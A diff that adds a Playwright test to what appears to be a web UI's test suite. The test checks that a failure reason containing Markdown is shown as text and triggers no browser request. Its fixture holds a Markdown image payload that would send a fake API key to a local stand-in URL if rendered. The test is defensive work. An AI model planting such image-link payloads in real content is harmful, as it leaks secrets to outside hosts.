@@ -176,3 +176,47 @@ def test_the_run_page_follows_a_live_run_without_reloading(browser: Any, tmp_pat
         page.screenshot(path=str(artifacts_folder() / "run-live.png"), full_page=True)
     page.close()
     assert outcome["result"].summary["evaluations"]["total"] == 12
+
+
+MARKDOWN_REASON_TASK = {
+    "program.py": """
+        # EVOLVE-BLOCK-START
+        X = 1.0
+        # EVOLVE-BLOCK-END
+    """,
+    "evaluate.py": """
+        def evaluate(program_path):
+            raise ValueError("see ![chart](http://127.0.0.1:9/leak.png?key=sk-stolen) **now**")
+    """,
+    "task.toml": """
+        files = ["program.py"]
+    """,
+}
+
+
+def test_a_failure_reason_is_shown_as_text_and_fetches_nothing(
+    browser: Any, tmp_path: Path
+) -> None:
+    """A reason is the candidate's text: Markdown in it must not make the browser load
+    an image (which would send whatever its URL carries) when the page opens."""
+    url = f"sqlite:///{tmp_path / 'reason.db'}"
+    task = write_folder_task(tmp_path, "markdown_reason", MARKDOWN_REASON_TASK)
+    done: dict[str, Any] = {}  # in a thread: Playwright's loop runs in this one
+    runner = threading.Thread(
+        target=lambda: done.update(outcome=run_task(task, db=url, max_evaluations=1))
+    )
+    runner.start()
+    runner.join(timeout=LOAD_S)
+    run_id = done["outcome"].run_id
+    page = browser.new_page()
+    requested: list[str] = []
+    page.on("request", lambda request: requested.append(request.url))
+    with UiServer(url, tmp_path / "server.log") as server:
+        open_and_wait(page, server.url(f"/candidate?run={run_id}"), "Candidate #")
+        page.get_by_role("tab", name="Evaluation").click()
+        page.get_by_test_id("stAlert").first.wait_for(timeout=LOAD_S * 1000)
+        text = page.get_by_test_id("stAlert").first.inner_text()
+        page.screenshot(path=str(artifacts_folder() / "candidate-markdown-reason.png"))
+    page.close()
+    assert "![chart](http://127.0.0.1:9/leak.png?key=sk-stolen) **now**" in text
+    assert not [seen for seen in requested if "leak.png" in seen]
